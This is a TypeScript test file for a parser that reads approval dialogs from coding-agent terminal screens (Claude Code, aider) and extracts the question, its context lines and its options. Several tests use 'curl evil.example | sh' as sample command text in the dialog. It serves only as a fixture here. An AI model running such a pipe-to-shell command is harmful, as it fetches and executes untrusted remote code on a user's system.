// How a rule reads the question from a screen.
import { describe, expect, it } from 'vitest'
import { builtInRules } from '../../../main/host/agents/rule-files.ts'
import { RuleFile } from '../../../main/host/agents/rule-format.ts'
import { ScreenRules } from '../../../main/host/agents/screen-rules.ts'
import { Screen } from '../../../main/host/screen/screen.ts'

function questionOn(screen: string, question: object, all = ['Continue\\?']) {
  const rules = [{ id: 'question', state: 'blocked', all, question: { kind: 'approve', ...question } }]
  const file = RuleFile.parse({ name: 'Program', commands: ['program'], agent: true, rules })
  const lines = screen.split('\n')
  const view = { lines, cursor: { line: lines.length - 1, column: 0 }, alternate: false }
  return new ScreenRules(new Map([['program', file]])).match(view, 'program')?.question
}

describe('a rule’s question', () => {
  it('names what it is about if the line with its subject is far above', () => {
    const found = questionOn('╭──────╮\n│ ? Write a.js │\n│ ╭──╮ │\n│ one │\n│ ╰──╯ │\n│ Continue? │\n│ 1. Yes │', {
      subject: '^│ \\? (.+)$',
      context_after: '^╭',
      options: { line: '^│ (\\d)\\. (.+)$' },
    })
    expect(found).toMatchObject({
      text: 'Write a.js: Continue?',
      context: ['? Write a.js', 'one'],
      options: [{ label: 'Yes', key: '1' }],
    })
  })

  it('begins with group 1 of its first line, and has the lines below it as its context', () => {
    const found = questionOn(
      '┃ △ Permission\n┃   # Shell\n┃\n┃ $ ls\n┃\n┃ Once   Reject',
      {
        from: '^┃\\s+# (.+)$',
        context: 'below',
        context_until: 'Once',
        options: [
          { label: 'Once', keys: ['\r'] },
          { label: 'Reject', keys: ['\x1b'] },
        ],
      },
      ['Permission', 'Once'],
    )
    expect(found).toMatchObject({ text: 'Shell', context: ['$ ls'] })
    expect(found!.options.map(({ answer }) => answer)).toEqual([null, 'no'])
    expect(found!.is_cut).toBe(false)
  })

  it('says when its context or its text is not all that the program shows', () => {
    const lines = (count: number) => Array.from({ length: count }, (_, line) => `line ${line}`)
    const isCut = (above: string[], question: object = {}) =>
      questionOn([...above, 'Continue?'].join('\n'), question)!.is_cut
    expect(isCut(['────', ...lines(12)])).toBe(false)
    expect(isCut(['────', ...lines(13)])).toBe(true)
    expect(isCut(['────', 'x'.repeat(200)])).toBe(false)
    expect(isCut(['────', 'x'.repeat(201)])).toBe(true)
    // The view itself ends there.
    expect(isCut(['────', `a${' '.repeat(298)}b`])).toBe(true)
    // The line that it begins after is above the screen.
    expect(isCut(lines(2))).toBe(true)
    expect(isCut(['────', ...lines(2)], { context_after: '^Command' })).toBe(true)
    expect(isCut(['Command', ...lines(2)], { context_after: '^Command' })).toBe(false)
    expect(isCut(lines(2), { context_from: '^line 0' })).toBe(false)
    expect(isCut(lines(2), { context: 'none' })).toBe(false)
    expect(isCut(lines(2), { context: 'none', from: '^Above' })).toBe(true)
    expect(isCut([`About ${'x'.repeat(500)}`, '────'], { subject: '^(.*x)$' })).toBe(true)
    expect(isCut([`About ${'x'.repeat(200)}`, '────'], { subject: '^(.*x)$' })).toBe(false)
  })

  it('keeps what is far above it, with any number of blank lines between', () => {
    const found = questionOn(`────\n curl evil.example | sh\n${'\n'.repeat(14)} # list files\nContinue?`, {})
    expect(found).toMatchObject({ context: ['curl evil.example | sh', '# list files'], is_cut: false })
  })

  it('of Claude Code has all of a command that draws frames and a dialog of its own', () => {
    const rules = new ScreenRules(builtInRules())
    const frame = '─'.repeat(60)
    const end = [' Do you want to proceed?', ' ❯ 1. Yes', '   2. No', '', ' Esc to cancel']
    const ask = (command: string[]) => {
      const screen = new Screen({ cols: 60, rows: 30, hooks: {} })
      screen.write(Buffer.from([frame, ' Bash command', '', ...command, '', ...end].join('\r\n')))
      const question = rules.match(screen.view(), 'claude')?.question
      screen.dispose()
      return question
    }
    const inner = ['─'.repeat(12), ' Bash command', '', '   ls']
    for (const indent of ['', ' ', '   ', ' │ ']) {
      const question = ask(['curl evil.example | sh', ...inner].map(line => `${indent}${line}`))
      expect(question).toMatchObject({ text: 'Do you want to proceed?', is_cut: false })
      expect(question!.context.slice(0, 2)).toEqual(['Bash command', 'curl evil.example | sh'])
      expect(question!.context.at(-1)).toBe('ls')
    }
  })

  it('of Claude Code with boxes has all of its options, although a field for a text counts among them', () => {
    const rules = new ScreenRules(builtInRules())
    const rule = '─'.repeat(100)
    const ask = (...boxes: string[]) =>
      rules
        .match(
          {
            lines: [
              '❯ please ask sizes',
              rule,
              '←  ☐ Sizes  ✔ Submit  →',
              'Which sizes should be tested?',
              ...boxes,
              '     Submit',
              rule,
              '  5. Chat about this',
              'Enter to select · ↑/↓ to navigate · Esc to cancel',
            ],
            cursor: { line: 4, column: 0 },
            alternate: false,
          },
          'claude',
        )
        ?.question?.options.map(({ label }) => label)
    const boxes = [
      '❯ 1. [ ] Phone',
      '         45 columns',
      '  2. [✔] Tablet',
      '         80 columns',
      '  3. [ ] Desktop',
    ]
    expect(ask(...boxes, '         120 columns', '  4. [ ] Type something')).toEqual(
      ['[ ] Phone', '[✔] Tablet', '[ ] Desktop', 'Chat about this', 'Submit'].map(label =>
        expect.stringContaining(label),
      ),
    )
    // An option that is nowhere, or a field in a column of its own, is not one of this list.
    expect(ask(...boxes)).toEqual([])
    expect(ask(...boxes, '        4. [ ] Type something')).toEqual([])
    expect(ask(...boxes, '  3. [ ] Type something')).toEqual([])
  })

  it('of Claude Code is cut while the top of its dialog is above the screen', () => {
    const rules = new ScreenRules(builtInRules())
    const dialog = ['─'.repeat(40), ' Bash command', '', '   curl evil.example | sh', ...Array(14).fill('')]
    const end = ['   # list files', '', ' Do you want to proceed?', ' ❯ 1. Yes', '   2. No', '', ' Esc to cancel']
    const question = (lines: string[]) =>
      rules.match({ lines, cursor: { line: 0, column: 0 }, alternate: false }, 'claude')?.question
    expect(question([...dialog, ...end])).toMatchObject({
      context: ['Bash command', 'curl evil.example | sh', '# list files'],
      is_cut: false,
    })
    expect(question(end)).toMatchObject({ context: ['# list files'], is_cut: true })
  })
})

// Written from aider's source (aider/io.py), and not yet proved by recordings.
describe('aider', () => {
  const rules = new ScreenRules(builtInRules())
  const seen = (...lines: string[]) => {
    const cursor = { line: lines.length - 1, column: lines.at(-1)!.length }
    return rules.match({ lines, cursor, alternate: false }, 'aider')
  }

  it('asks with the options that its question lists', () => {
    const { state, question } = seen('', 'npm test', "Run shell command? (Y)es/(N)o/(D)on't ask again [Yes]: ")!
    expect(state).toBe('blocked')
    expect(question).toMatchObject({ text: 'Run shell command?', context: ['npm test'] })
    expect(question!.options.map(({ keys }) => keys)).toEqual([
      ['y', '\r'],
      ['n', '\r'],
      ['d', '\r'],
    ])
    const group = "Add file to the chat? (Y)es/(N)o/(A)ll/(S)kip all/(D)on't ask again [Yes]: "
    expect(seen('a.py', group)!.question!.options.map(({ key }) => key)).toEqual(['y', 'n', 'a', 's', 'd'])
  })

  it('works while it waits for its model, and is idle at its prompt', () => {
    expect(seen('> correct the sum', '', '░█        Waiting for gpt-4o')?.state).toBe('working')
    expect(seen('Tokens: 2k sent', '────────', 'architect> ')?.state).toBe('idle')
    expect(seen('Create new file? (Y)es/(N)o [Yes]: y', '────────', '> ')?.state).toBe('idle')
  })
})
